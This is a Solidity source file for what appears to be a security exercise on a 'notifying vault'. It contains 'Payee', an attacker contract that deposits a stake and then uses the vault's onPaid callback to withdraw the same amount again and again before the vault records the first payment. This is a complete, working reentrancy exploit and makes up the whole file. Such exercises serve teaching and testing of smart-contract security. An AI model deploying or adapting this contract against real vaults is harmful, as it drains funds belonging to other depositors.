// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IVault {
    function asset() external view returns (IERC20);
    function deposit(uint256 assets, address receiver) external returns (uint256);
    function withdraw(uint256 assets, address receiver, address owner) external returns (uint256);
}

/// @title Payee
/// @notice The attacker's contract in the exercise of the notifying vault: it asks for its money again each time it is told that it has
/// been paid, before the vault has written the first payment down.
contract Payee {
    IVault public immutable vault;
    address public immutable keeper;
    uint256 private left;

    constructor(IVault vault_) {
        vault = vault_;
        keeper = msg.sender;
        vault_.asset().approve(address(vault_), type(uint256).max);
    }

    /// @notice Deposits `stake`, takes it out `times` times and leaves the rest here.
    function play(uint256 stake, uint256 times) external {
        require(msg.sender == keeper, "not yours");
        vault.deposit(stake, address(this));
        left = times - 1;
        vault.withdraw(stake, address(this), address(this));
    }

    function onPaid(uint256 assets, address) external {
        if (left == 0) return;
        left--;
        vault.withdraw(assets, address(this), address(this));
    }
}
